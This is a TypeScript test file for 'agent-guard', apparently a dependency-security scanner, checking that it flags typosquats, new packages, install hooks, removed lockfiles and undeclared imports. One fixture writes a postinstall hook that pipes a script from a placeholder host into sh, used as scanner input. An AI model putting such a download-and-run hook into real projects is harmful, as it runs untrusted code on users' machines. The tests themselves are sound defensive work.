import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';

const cli = path.resolve(__dirname, '../../dist/cli.js');
const workspace = mkdtempSync(path.join(tmpdir(), 'agent-guard-deps-'));
after(() => rmSync(workspace, { recursive: true, force: true }));

interface JsonFinding {
  ruleId: string;
  severity: string;
  message: string;
  file: string;
  range: { startLine: number };
}

/** Writes BEFORE and AFTER trees and runs `agent-guard diff BEFORE AFTER --format json`. */
function diff(name: string, before: Record<string, string>, afterFiles: Record<string, string>, extra: string[] = []) {
  const root = path.join(workspace, name);
  for (const [side, files] of [['before', before], ['after', afterFiles]] as const) {
    for (const [file, text] of Object.entries(files)) {
      const full = path.join(root, side, file);
      mkdirSync(path.dirname(full), { recursive: true });
      writeFileSync(full, text);
    }
    mkdirSync(path.join(root, side), { recursive: true });
  }
  const run = spawnSync(process.execPath, [cli, 'diff', path.join(root, 'before'), path.join(root, 'after'), '--format', 'json', ...extra], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  const report = JSON.parse(run.stdout) as { findings: JsonFinding[] };
  return { status: run.status, stderr: run.stderr, findings: report.findings };
}

const pkg = (deps: Record<string, string>, extra: Record<string, unknown> = {}) => `${JSON.stringify({ name: 'demo', version: '1.0.0', ...extra, dependencies: deps }, null, 2)}\n`;

describe('agent-guard diff: dependency acceptance', () => {
  it('package.json adding expresss: a typosquat of express on the exact line', () => {
    const { status, findings } = diff('squat', { 'package.json': pkg({ express: '^4.18.0' }) }, { 'package.json': pkg({ express: '^4.18.0', expresss: '^4.18.0' }) });
    const squat = findings.find((f) => f.ruleId === 'dependencies/typosquat');
    assert.ok(squat, JSON.stringify(findings));
    assert.equal(squat.severity, 'high');
    assert.equal(squat.range.startLine, 6);
    assert.match(squat.message, /expresss looks like a typosquat of express/);
    assert.equal(status, 1);
  });

  it('package.json adding zod: a low-severity new dependency, and nothing else', () => {
    const { status, findings } = diff('zod', { 'package.json': pkg({ express: '^4.18.0' }) }, { 'package.json': pkg({ express: '^4.18.0', zod: '^3.23.0' }) });
    assert.deepEqual(findings.map((f) => [f.ruleId, f.severity, f.range.startLine]), [['dependencies/new-dependency', 'low', 6]]);
    assert.equal(status, 0);
  });

  it('package.json adding a postinstall: high', () => {
    const { status, findings } = diff('postinstall', { 'package.json': pkg({}) }, { 'package.json': pkg({}, { scripts: { postinstall: 'node ./setup.js' } }) });
    // The install hook is the dependency finding; the scripts block is also announced as a sensitive-file change.
    assert.deepEqual(findings.map((f) => [f.ruleId, f.severity, f.range.startLine]), [['files/sensitive-path-change', 'medium', 4], ['dependencies/install-script', 'high', 5]]);
    assert.equal(status, 1);
  });

  it('requirements.txt adding reqeusts: a typosquat of requests', () => {
    const { findings } = diff('reqeusts', { 'requirements.txt': 'flask==3.0.3\n' }, { 'requirements.txt': 'flask==3.0.3\nreqeusts==2.32.3\n' });
    const squat = findings.find((f) => f.ruleId === 'dependencies/typosquat');
    assert.equal(squat?.range.startLine, 2);
    assert.match(squat?.message ?? '', /typosquat of requests/);
  });

  it('a deleted lockfile and an unknown name are reported; --online is off unless asked', () => {
    const { findings } = diff('lock', { 'package.json': pkg({}), 'package-lock.json': '{"lockfileVersion":3,"packages":{}}' }, { 'package.json': pkg({ 'totally-invented-helper-pkg': '^1.0.0' }) });
    assert.deepEqual(findings.map((f) => f.ruleId).sort(), ['dependencies/lockfile-removed', 'dependencies/new-dependency', 'dependencies/unknown-package']);
    assert.match(findings.find((f) => f.ruleId === 'dependencies/unknown-package')!.message, /verify that this package exists/);
  });

  it('an undeclared import in new code is reported against the nearest package.json', () => {
    const files = { 'package.json': pkg({ express: '^4.18.0' }), 'src/app.ts': "import express from 'express';\n" };
    const { findings } = diff('imports', files, { ...files, 'src/app.ts': "import express from 'express';\nimport axios from 'axios';\n" });
    assert.deepEqual(findings.map((f) => [f.ruleId, f.file, f.range.startLine]), [['dependencies/undeclared-import', 'src/app.ts', 2]]);
  });

  it('a broken manifest is a finding, not a crash', () => {
    const { status, stderr, findings } = diff('broken', { 'pyproject.toml': '[project]\n' }, { 'pyproject.toml': '[project\ndependencies = [' });
    assert.equal(stderr, '');
    assert.deepEqual(findings.map((f) => f.ruleId), ['dependencies/unreadable-manifest']);
    assert.equal(status, 0);
  });

  it('the scan command reports a git dependency and an install script that downloads code', () => {
    const root = path.join(workspace, 'scan');
    mkdirSync(root, { recursive: true });
    writeFileSync(path.join(root, 'package.json'), pkg({ thing: 'github:someone/thing' }, { scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } }));
    const run = spawnSync(process.execPath, [cli, 'scan', root, '--format', 'json'], { encoding: 'utf8' });
    const ids = (JSON.parse(run.stdout) as { findings: JsonFinding[] }).findings.map((f) => f.ruleId).sort();
    // One finding for the downloading install script: files/download-and-execute leaves install hooks to install-script.
    assert.deepEqual(ids, ['dependencies/install-script', 'dependencies/unsafe-source']);
    assert.equal(run.status, 1);
  });
});
